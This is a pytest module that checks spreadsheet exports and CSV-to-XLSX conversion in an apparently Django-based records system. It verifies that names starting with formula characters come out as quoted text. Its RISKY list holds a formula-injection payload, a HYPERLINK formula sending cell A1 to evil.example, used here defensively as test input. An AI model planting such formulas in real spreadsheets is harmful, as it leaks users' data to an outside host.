"""Formula-safe exports (issue 12, point 7): names starting with =, +, -, @, a tab or a
carriage return go through every Excel export (exchange data export, training class
workbook, report workbooks) and the CSV upload conversion, and come out as text cells —
no formula anywhere in the file — with the name unchanged."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.urls import reverse

from ptdv.core.spreadsheet import FORMULA_STARTS, is_risky, safe_cell, safe_csv, safe_row
from ptdv.training.tests.conftest import run_class, world  # noqa: F401 - the fixture

RISKY = [
    '=HYPERLINK("http://evil.example/?q="&A1;"Nguyễn Văn An")',
    "=1+2",
    "+Nguyễn Văn Bình",
    "-Trần Văn Cường",
    "@Lê Thị Dung",
    "\tHoàng Văn Em",
    "\rMa Văn Phúc",
]


def no_formulas(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = z.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name


def text_cells(data: bytes) -> dict[str, Any]:
    """Every string cell of the workbook: value → cell."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value}


def assert_written_as_text(data: bytes, names: list[str]) -> None:
    no_formulas(data)
    cells = text_cells(data)
    for name in names:
        assert name in cells, (name, list(cells)[:20])
        cell = cells[name]
        assert cell.data_type == "s" and cell.quotePrefix, name


def test_helpers() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    assert all(is_risky(v) for v in RISKY)
    assert not any(is_risky(v) for v in ("Nguyễn Văn An", "", None, -1, 1.5))
    assert safe_csv("=1+2") == "'=1+2" and safe_csv("An") == "An" and safe_csv(3) == 3
    for write_only in (False, True):
        wb = openpyxl.Workbook(write_only=write_only)
        ws = wb.create_sheet("x") if write_only else wb.active
        ws.append(safe_row(ws, [*RISKY, "Nguyễn Văn An", 7, None, dt.date(2020, 1, 2)]))
        if not write_only:
            safe_cell(ws.cell(row=2, column=1), "=SUM(1;2)")
        buf = io.BytesIO()
        wb.save(buf)
        assert_written_as_text(buf.getvalue(), RISKY)
        cells = text_cells(buf.getvalue())
        assert not cells["Nguyễn Văn An"].quotePrefix and cells[7].data_type == "n"


@pytest.mark.django_db
def test_exchange_people_export(tree: Any, personas: Any) -> None:
    from ptdv.exchange.exporter import export_workbook
    from ptdv.people.services import person_create

    names = []
    for i, name in enumerate(RISKY):
        p = person_create(
            actor=None,
            org_unit=tree.cell,
            full_name=name,
            date_of_birth=dt.date(1990, 1, 1 + i),
            gender="male",
        )
        names.append(p.full_name)
    assert any(n.startswith(("=", "+", "-", "@")) for n in names)
    data, n = export_workbook(kind="people", user=personas.district_officer, org=tree.district)
    assert n == len(RISKY)
    assert_written_as_text(data, [n for n in names if is_risky(n)])


@pytest.mark.django_db
def test_exchange_organizations_export(tree: Any, personas: Any) -> None:
    """Text columns (codes) are written through styled cells: made safe too."""
    from ptdv.exchange.exporter import export_workbook
    from ptdv.organizations.services import org_unit_create

    org_unit_create(
        actor=None,
        code="-A-X-9",
        name="+Chi bộ thôn Khuổi Bốc",
        kind="cell",
        parent=tree.grassroots,
        valid_from=dt.date(2000, 1, 1),
    )
    data, _n = export_workbook(
        kind="organizations", user=personas.district_officer, org=tree.district
    )
    assert_written_as_text(data, ["-A-X-9", "+Chi bộ thôn Khuổi Bốc"])


@pytest.mark.django_db
def test_training_class_workbook(client: Any, world: Any, tree: Any, personas: Any) -> None:  # noqa: F811
    from ptdv.people.services import person_update
    from ptdv.training.models import Certificate  # noqa: F401

    person_update(actor=None, person=world.mass, full_name="=1+2")
    person_update(actor=None, person=world.mass2, full_name="@Nông Văn Đức")
    run_class(world.klass, [world.mass, world.mass2])
    client.force_login(personas.district_officer)
    r = client.get(reverse("training:export", args=[world.klass.uid]))
    assert r.status_code == 200
    assert_written_as_text(r.content, ["=1+2", "@Nông Văn Đức"])


def test_report_workbooks() -> None:
    """Every report export writes through ``reports.excel.workbook_bytes``."""
    from ptdv.reports.excel import NUMBER, TEXT, Column, Sheet, workbook_bytes

    sheet = Sheet(
        "Danh sách",
        [Column("STT", NUMBER), Column("Họ và tên", TEXT), Column("Ghi chú", TEXT)],
        [[i, name, "-"] for i, name in enumerate(RISKY, start=1)],
        heading="=Đảng bộ xã Xuân",
    )
    data = workbook_bytes([sheet])
    assert_written_as_text(data, [*RISKY, "=Đảng bộ xã Xuân", "-"])
    assert text_cells(data)[3].data_type == "n"  # numbers stay numbers


def test_csv_upload_keeps_text(tmp_path: Path) -> None:
    """A CSV has no formulas: its "=…" reaches the import as the text it is."""
    from ptdv.exchange.reader import csv_to_xlsx

    src = tmp_path / "ds.csv"
    src.write_text("Họ và tên;Ngày sinh\n=1+2;01/01/1990\n@Lê Thị Dung;02/02/1991\n")
    out = csv_to_xlsx(src, tmp_path / "ds.xlsx")
    assert_written_as_text(out.read_bytes(), ["=1+2", "@Lê Thị Dung"])
